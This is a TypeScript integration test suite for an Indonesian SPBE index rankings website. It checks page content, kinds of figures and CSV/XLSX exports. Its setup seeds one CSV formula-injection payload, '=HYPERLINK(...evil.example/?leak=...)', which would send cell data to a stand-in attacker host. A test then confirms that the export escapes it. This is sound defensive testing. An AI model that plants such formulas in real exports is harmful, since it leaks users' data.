import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { figureNotes, frameworks, publishedResults } from "../../../db/schema";
import { upsertSource } from "../../../db/sources";
import { createSignedInUser, request, startTestApp } from "../../../tests/support/http-app";
import { db } from "../db.server";
import { SPBE_2020 } from "../frameworks/index.server";
import { readSpreadsheet } from "../spreadsheets/import.server";
import { syncSampleData } from "./sample-data.server";

/**
 * Kinds of figures kept apart on every page and export, over real HTTP, in demo mode (sample
 * data present): official results are ranked and headlined; other kinds are labelled beside.
 */
let app: Awaited<ReturnType<typeof startTestApp>>;

const text = (html: string) =>
  html
    .replace(/<script[\s\S]*?<\/script>/g, "")
    .replace(/<[^>]+>/g, " ")
    .replace(/&amp;/g, "&")
    .replace(/&quot;/g, '"')
    .replace(/\s+/g, " ");
const page = async (path: string) => (await request(app.origin, path)).text();
/** The rows of a page's first table body, as text. */
const tableRows = (html: string) => [...(/<tbody[^>]*>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? "").matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].map((row) => text(row[1]!));

beforeAll(async () => {
  await db().transaction((tx) => syncSampleData(tx));
  const frameworkId = (await db().query.frameworks.findFirst({ where: eq(frameworks.slug, SPBE_2020) }))!.id;
  // Two sources that disagree, and a source that would be a spreadsheet formula.
  for (const [value, url] of [
    [2.69, "https://luwu-a.example.id/2022"],
    [2.68, "https://luwu-b.example.id/2022"],
  ] as const) {
    await db().insert(publishedResults).values({ frameworkId, regionCode: "73.22", year: 2022, value, sourceId: await upsertSource(db(), "news", url), origin: "seed" });
  }
  const formula = await upsertSource(db(), "official_decree", '=HYPERLINK("https://evil.example/?leak="&B2;"klik")');
  await db().insert(publishedResults).values({ frameworkId, regionCode: "73.26", year: 2022, value: 2.5, sourceId: formula, origin: "import" });
  const editor = await createSignedInUser("editor", "32.11");
  await db().insert(figureNotes).values({ regionCode: "32.11", frameworkId, year: 2024, figureKind: "official", body: "Banding atas indikator 12 sedang diajukan.", authorId: editor.id });
  app = await startTestApp();
});
afterAll(() => app.close());

describe("rankings", () => {
  it("rank official results only by default, even where sample data exists for more regions", async () => {
    const html = await page("/peringkat?tahun=2024");
    const rows = tableRows(html);
    expect(rows.length).toBeGreaterThan(10);
    for (const row of rows) {
      expect(row).toContain("Resmi");
      expect(row).not.toContain("Data contoh");
    }
    // Sample Banyuwangi (reproducing 2025's trend) would outrank Sumedang if kinds were mixed.
    expect(rows[0]).toMatch(/^ ?1 Kabupaten Sumedang Jawa Barat .*4,51 Memuaskan/);
    expect(text(html)).toMatch(/\d+ dari 514 kabupaten\/kota yang tersaring memiliki indeks resmi untuk 2024\./);
  });

  it("offer sample data as its own, labelled view with changes computed within it", async () => {
    const html = await page("/peringkat?data=contoh&tahun=2024&provinsi=32");
    expect(text(html)).toContain("Peringkat ini memakai data contoh sintetis untuk demonstrasi.");
    const rows = tableRows(html);
    for (const row of rows) expect(row).toContain("Data contoh");
    // Sumedang's sample 2024 reproduces its official 4,51; its change is from its sample 2023.
    expect(rows.find((row) => row.includes("Sumedang"))).toMatch(/4,51 Memuaskan [+−±]\d,\d\d/);
  });

  it("never compute a change from another kind's previous year", async () => {
    // Official 2023 does not exist for Sumedang: the change is empty, not official minus sample.
    const sumedang = tableRows(await page("/peringkat?tahun=2024&provinsi=32")).find((row) => row.includes("Sumedang"));
    expect(sumedang).toMatch(/4,51 Memuaskan — /);
  });

  it("rank provincial governments apart from kabupaten/kota", async () => {
    const provinces = tableRows(await page("/peringkat?jenis=provinsi&tahun=2023"));
    expect(provinces.some((row) => row.includes("Jawa Tengah") && row.includes("4,26"))).toBe(true);
    for (const row of provinces) expect(row).not.toMatch(/Kabupaten|Kota /);
    for (const row of tableRows(await page("/peringkat?tahun=2023"))) expect(row).not.toMatch(/^ ?\d+ (Jawa Tengah|Bali) /);
  });

  it("list a disputed value apart, unranked, with both sources", async () => {
    const html = text(await page("/peringkat?tahun=2022&provinsi=73"));
    expect(html).toContain("Nilai diperselisihkan (tidak diperingkat)");
    expect(html).toMatch(/Kabupaten Luwu Utara 2,69 · 2,68 Diperselisihkan/);
    expect(html).toContain("luwu-a.example.id");
    expect(html).toContain("luwu-b.example.id");
  });

  it("show averages only as sources publish them", async () => {
    const html = text(await page("/peringkat?tahun=2024&provinsi=32"));
    expect(html).toContain("Rata-rata yang dipublikasikan");
    expect(html).toMatch(/Rata-rata 27 kabupaten\/kota Jawa Barat \( ?2024 ?\): 3,89/);
  });
});

describe("rankings downloads", () => {
  it("give the page's rows in its order, in Indonesian Excel's style, with kind, sources and the region's note", async () => {
    const html = await page("/peringkat?tahun=2024&provinsi=32&urut=nama");
    const response = await request(app.origin, "/peringkat.csv?tahun=2024&provinsi=32&urut=nama&gaya=id");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const bytes = new Uint8Array(await response.arrayBuffer());
    // A byte order mark, so Excel reads the file as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder().decode(bytes);
    expect(csv.startsWith("peringkat;kode_wilayah;daerah;provinsi;tahun;jenis_data;indeks;")).toBe(true);
    const lines = csv.trim().split("\r\n").slice(1);
    const pageCodes = [...html.matchAll(/href="\/daerah\/(\d{2}\.\d{2})\/benchmark\?kerangka=spbe-2020"/g)].map((match) => match[1]);
    expect(lines.map((line) => line.split(";")[1])).toEqual(pageCodes);
    const sumedang = lines.find((line) => line.includes("32.11"))!;
    expect(sumedang).toContain(";Resmi;4,51;Memuaskan;");
    expect(sumedang).toContain("Banding atas indikator 12 sedang diajukan.");
    expect(sumedang).toContain("https://eljabar.com/sekda-tekankan-peningkatan-spbe-sumedang");
  });

  it("give the international style and .xlsx with numbers as numbers", async () => {
    const intl = await (await request(app.origin, "/peringkat.csv?tahun=2024&provinsi=32&gaya=intl")).text();
    expect(intl).toMatch(/,32\.11,Kabupaten Sumedang,Jawa Barat,2024,Resmi,4\.51,Memuaskan,/);
    const xlsx = await request(app.origin, "/peringkat.xlsx?tahun=2024&provinsi=32");
    expect(xlsx.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const read = await readSpreadsheet(new Uint8Array(await xlsx.arrayBuffer()));
    if (!read.ok) throw new Error(read.problem);
    expect(read.rows.find((row) => row.cells[1] === "32.11")?.cells.slice(0, 7)).toEqual([1, "32.11", "Kabupaten Sumedang", "Jawa Barat", 2024, "Resmi", 4.51]);
  });

  it("never write a cell that would run as a formula", async () => {
    const csv = await (await request(app.origin, "/peringkat.csv?tahun=2022&provinsi=73")).text();
    expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?leak=""&B2;""klik"")`);
    expect(csv).not.toMatch(/[;"]=HYPERLINK/);
  });
});

describe("region pages", () => {
  // Regions with official results and sample data in later years: the headline stays official.
  it.each([
    ["33.16", "2023", "3,27"],
    ["32.11", "2024", "4,51"],
    ["32.12", "2022", "3,09"],
  ])("headline %s's latest official figure (%s: %s), never a sample one", async (code, year, value) => {
    for (const path of [`/daerah/${code}`, `/daerah/${code}/benchmark`]) {
      const html = text(await page(path));
      expect(html).toContain(`Indeks resmi terbaru (${year}) ${value}`);
      expect(html).toMatch(new RegExp(`Indeks resmi terbaru \\(${year}\\) ${value} \\w[\\w ]* Resmi`));
    }
    // The sample figure, where shown, is labelled beside it.
    expect(text(await page(`/daerah/${code}/benchmark`))).toMatch(/Data contoh terbaru \(2024\) \d,\d\d Data contoh/);
  });

  it("draw each kind as its own line with its own style and legend, and table every value with its kind and source", async () => {
    const html = await page("/daerah/32.11/benchmark");
    expect(html).toContain("Kabupaten Sumedang (Data contoh)");
    // Sample points: dotted line and hollow markers; official ones: solid line and filled markers.
    expect(html).toMatch(/stroke-dasharray="2 3"/);
    expect(html).toMatch(/class="visx-circle fill-brand-700 stroke-white"/);
    expect(html).toMatch(/class="visx-polygon fill-white stroke-brand-700"/);
    const profile = await page("/daerah/32.11");
    expect(profile).toContain('href="https://eljabar.com/sekda-tekankan-peningkatan-spbe-sumedang"');
    expect(text(profile)).toContain("Banding atas indikator 12 sedang diajukan.");
  });

  it("draw a sample profile hatched and say how many of the group have data", async () => {
    const html = await page("/daerah/33.16/benchmark?kelompok=provinsi");
    expect(html).toMatch(/<pattern id="[^"]*-hatch-0"/);
    // Blora's latest official year is 2023, so the page opens on 2023.
    expect(text(html)).toMatch(/\d+ dari 35 daerah yang memiliki data contoh untuk 2023/);
  });

  it("show a province's own government apart, with published averages of its regions", async () => {
    const html = text(await page("/provinsi/32"));
    expect(html).toContain("Indeks SPBE 2020 — Pemerintah Provinsi Jawa Barat");
    expect(html).toContain("Indeks resmi terbaru (2023) 4,14");
    expect(html).toContain("Rata-rata 6 daerah Priangan Timur (Jawa Barat)");
    expect((await request(app.origin, "/provinsi/99")).status).toBe(404);
  });
});

describe("indicator pages", () => {
  it("show the criteria of every level, the uncertain ones marked, and the sample spread apart", async () => {
    const html = text(await page("/indikator/3"));
    expect(html).toContain("Kebijakan internal Manajemen Data di Instansi Pusat/Pemerintah Daerah telah ditetapkan.");
    expect(html).toContain("Teks belum pasti");
    expect(html).toMatch(/0 dari 514 kabupaten\/kota memiliki tingkat terverifikasi untuk 2024/);
    expect(html).toMatch(/\d+ dari 514 kabupaten\/kota memiliki data contoh untuk 2024/);
  });
});

describe("the site", () => {
  it("says on every page while sample data exists", async () => {
    for (const path of ["/", "/praktik", "/peringkat"]) expect(text(await page(path))).toContain("Demo: situs ini memuat data contoh sintetis");
  });
});
